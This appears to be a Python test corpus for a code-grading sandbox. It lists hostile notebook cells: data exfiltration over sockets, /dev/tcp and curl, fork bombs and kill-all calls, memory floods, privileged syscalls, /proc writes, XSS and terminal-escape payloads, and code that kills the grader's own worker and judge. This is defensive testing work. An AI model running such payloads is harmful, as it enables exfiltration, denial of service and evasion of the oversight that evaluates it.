"""Code that tries to hurt others: the network, other processes, memory, the machine. All of it with right answers."""

from __future__ import annotations

from typing import Any

from examiner.tests.corpus.assignment import text
from examiner.tests.corpus.entry import Entry, answers, damaged, first_cell

MARK = "98765431"  # the argument of processes that must not be there afterwards
LOOK = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
{calls}
"""


def calls(name: str, what: str, *lines: str) -> Entry:
    """C calls that must do nothing."""
    body = "\n".join(f"print(libc.{line}, ctypes.get_errno())" for line in lines)
    return first_cell(name, what, LOOK.format(calls=body))


def with_scripts(notebook: dict[str, Any]) -> None:
    """Put scripts into text cells, one of them an answer."""
    notebook["cells"].insert(0, text("<script>alert(1)</script><iframe src='javascript:alert(1)'></iframe>"))
    notebook["cells"][-1]["source"] = "<img src=x onerror=alert(1)> [x](javascript:alert(1))"


ENTRIES = [
    first_cell("tcp", "Connects to a server on this machine.", """
        import socket
        for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            try:
                end = socket.socket(family, socket.SOCK_STREAM)
                end.settimeout(0.2)
                end.connect((host, PORT)); end.send(b"stolen")
            except OSError as error:
                print(error)
    """),
    first_cell("udp", "Sends packets to this machine and around.", """
        import socket
        for host in ("127.0.0.1", "255.255.255.255", "8.8.8.8"):
            try:
                end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                end.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                end.sendto(b"stolen", (host, PORT))
            except OSError as error:
                print(error)
    """),
    first_cell("programs", "Connects by programs.", """
        !(echo stolen > /dev/tcp/127.0.0.1/PORT) 2>&1
        !bash -c 'echo stolen > /dev/udp/127.0.0.1/PORT' 2>&1
        !curl -m 1 http://127.0.0.1:PORT/stolen 2>&1
    """),
    first_cell("unix-sockets", "Connects to sockets in the file system and without a name.", """
        import glob, socket
        for path in [*glob.glob("/run/**/*.sock", recursive=True), *glob.glob("/tmp/.X11-unix/*"), "\\0PORT"]:
            try:
                end = socket.socket(socket.AF_UNIX); end.connect(path); end.send(b"stolen")
            except OSError as error:
                print(path, error)
    """),
    answers("network-in-tests", "Connects while the tests run.", {"total": """
        import socket
        def total(values):
            for port in range(20000, 20010):
                try:
                    socket.create_connection(("127.0.0.1", port), timeout=0.01).send(repr(values).encode())
                except OSError:
                    pass
            return sum(values)
    """}),
    first_cell("daemon", "Leaves a process behind, twice forked, in a session of its own.", f"""
        import os
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                os.execvp("sleep", ["sleep", "{MARK}"])
            os._exit(0)
    """),
    first_cell("nohup", "Leaves programs behind.", f"""
        import subprocess
        for _ in range(5):
            subprocess.Popen(["sleep", "{MARK}"], start_new_session=True, stdout=subprocess.DEVNULL)
        !(setsid nohup sleep {MARK} >/dev/null 2>&1 &)
    """),
    answers("daemon-in-tests", "Leaves processes behind while the tests run.", {"total": f"""
        import subprocess
        def total(values):
            subprocess.Popen(["sleep", "{MARK}"], start_new_session=True)
            return sum(values)
    """}),
    first_cell("stubborn-daemon", "Leaves a process behind that forks whenever it can.", """
        import os, signal, time
        if os.fork() == 0:
            os.setsid()
            for number in range(1, 64):
                try: signal.signal(number, signal.SIG_IGN)
                except (OSError, ValueError): pass
            while True:
                try: os.fork()
                except OSError: pass
                time.sleep(0.05)
    """),
    first_cell("kill-all", "Kills every process that it may.", "import os, signal\nos.kill(-1, signal.SIGKILL)"),
    first_cell("kill-by-number", "Kills by number.", """
        import os, signal
        for number in [*range(1, 5000), *map(int, filter(str.isdigit, os.listdir("/proc")))]:
            if number != os.getpid():
                try: os.kill(number, signal.SIGKILL)
                except OSError: pass
    """),
    first_cell("kill-by-handle", "Kills by handles of processes.", """
        import os, signal
        for name in filter(str.isdigit, os.listdir("/proc")):
            try: signal.pidfd_send_signal(os.open(f"/proc/{name}", os.O_RDONLY), signal.SIGKILL)
            except OSError as error: print(name, error)
    """),
    first_cell("stop-all", "Stops every process that it may.", "import os, signal\nos.kill(-1, signal.SIGSTOP)"),
    first_cell("shared-memory", "Fills memory that processes share.", """
        import mmap
        kept = []
        while True:
            one = mmap.mmap(-1, 2**26)
            for place in range(0, 2**26, 4096): one[place] = 1
            kept.append(one)
    """),
    first_cell("forked-memory", "Many processes fill the memory.", """
        import os
        for _ in range(12):
            if os.fork() == 0:
                kept = []
                while True: kept.append(bytearray(b"x") * 10**7)
        import time; time.sleep(3)
    """),
    first_cell("pipes", "Fills pipes and sockets.", """
        import os, socket
        kept = []
        while True:
            ends = os.pipe(); os.set_blocking(ends[1], False); kept.append(ends)
            try:
                while os.write(ends[1], b"x" * 65536): pass
            except BlockingIOError: pass
    """),
    calls("namespaces", "Asks for namespaces, mounts and other processes.",
          "unshare(0x10000000)", "unshare(0x20000)", "mount(b'none', b'/tmp', b'tmpfs', 0, None)", "umount2(b'/tmp', 2)",
          "ptrace(16, 1, 0, 0)", "setns(3, 0)", "chroot(b'/')", "pivot_root(b'/', b'/')", "swapon(b'/x', 0)"),
    calls("users", "Asks for other users and capabilities.",
          "setuid(0)", "setgid(0)", "setresuid(0, 0, 0)", "prctl(24, 1, 0, 0, 0)", "capset(None, None)"),
    calls("kernel", "Asks for keys, programs and rings of the kernel.",
          "syscall(321, 0, 0, 0)", "syscall(425, 1, 0)", "syscall(250, 0, 0)", "syscall(323, 0)", "syscall(298, 0)",
          "syscall(319, b'x', 0)", "syscall(29, 0, 10**9, 0o1600)", "reboot(0)", "sethostname(b'x', 1)"),
    first_cell("clone-users", "A new user namespace by clone.", """
        !unshare -r id 2>&1
        !unshare -rnpf --mount-proc ps aux 2>&1
        !su -c id 2>&1 </dev/null
        !mount 2>&1 | head -3
    """),
    first_cell("proc-games", "Writes where the kernel is set up.", """
        import glob
        paths = ["/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/sysrq-trigger", "/proc/sys/kernel/hostname"]
        paths += glob.glob("/proc/*/mem") + glob.glob("/proc/*/oom_score_adj") + glob.glob("/sys/fs/cgroup/**/*.procs")
        for path in paths:
            try:
                with open(path, "r+b", 0) as stream: stream.write(b"-1000")
                print("written", path) if "oom" not in path and "self" not in path else None
            except OSError: pass
    """),
    first_cell("priorities", "Takes and gives priorities.", """
        import os
        for kind in (os.PRIO_PROCESS, os.PRIO_PGRP, os.PRIO_USER):
            try: os.setpriority(kind, 0, 19)
            except OSError as error: print(error)
        os.sched_setaffinity(0, {0})
    """),
    first_cell("print-flood", "Prints for ever.", "while True:\n    print('x' * 10_000)"),
    first_cell("display-flood", "Displays for ever.", """
        from IPython.display import display
        while True: display({"text/plain": "x"}, raw=True)
    """),
    first_cell("terminal", "Colours, bells and titles for a terminal.",
               "print('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31m' * 1000)\nraise ValueError('\\x1b[2J\\x1b]52;c;b3duZWQ=\\x07')"),
    answers("terminal-in-tests", "Colours, bells and titles in what tests say.", {
        "slope": "def slope(f, x):\n    print('\\x1b]0;owned\\x07')\n    raise ValueError('\\x1b[2J\\x07[/red]\\r\\b')"}, ["slope"]),
    first_cell("scripts", "Scripts in outputs.", """
        from IPython.display import HTML, Javascript, display
        display(HTML("<script>document.title = 'owned'</script><img src=x onerror=alert(1)>"))
        display(Javascript("alert(1)"))
        display({"image/svg+xml": "<svg onload=alert(1)></svg>", "text/latex": "$\\\\href{javascript:alert(1)}{x}$"}, raw=True)
    """),
    damaged("scripts-in-text", "Scripts in text cells.", with_scripts),
    first_cell("worker", "Looks for the worker and the judge, and kills and stops them.", """
        import os, signal
        for name in filter(str.isdigit, os.listdir("/proc")):
            try:
                words = open(f"/proc/{name}/cmdline").read()
                if "examiner" in words or "bwrap" in words:
                    os.kill(int(name), signal.SIGSTOP); os.kill(int(name), signal.SIGKILL)
            except OSError: pass
    """),
]  # fmt: skip
